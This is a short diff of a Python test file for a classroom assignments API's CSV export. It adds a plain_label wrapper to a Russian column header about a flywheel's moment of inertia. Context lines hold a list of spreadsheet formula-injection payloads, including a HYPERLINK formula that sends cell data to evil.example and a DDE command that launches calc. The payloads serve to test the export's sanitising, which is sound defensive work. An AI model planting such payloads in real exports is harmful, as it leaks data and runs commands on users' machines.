@@ -21,6 +21,7 @@ from server.api.app import app
 from server.api.csv_export import FORMULA_STARTS, safe_cell
 from server.classroom.identity import secret_hash
 from server.classroom.names import clean
+from server.lessons.markup import plain_label
 
 API = "/api/v1/assignments"
 FLYWHEEL = {"scene": "flywheel", "variant": "rig", "title": "Lab 5",
@@ -31,7 +32,7 @@ PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'
 NAMES = list(dict.fromkeys(clean(p) for p in PAYLOADS))      # as registered: a leading tab or CR is not kept
 # the instructor's CSV of a ru assignment: ";" between cells, a decimal comma, the columns in words
 STUDENT, VARIANT, LINK = "Студент", "Вариант", "Личная ссылка"
-INERTIA = "Момент инерции маховика I_м (точный, для заданного δ)"
+INERTIA = plain_label("Момент инерции маховика I_м (точный, для заданного δ)")     # a CSV header: plain text
 ANSWER, CORRECT = f"{INERTIA}: ответ", f"{INERTIA}: Правильный ответ"
 
 
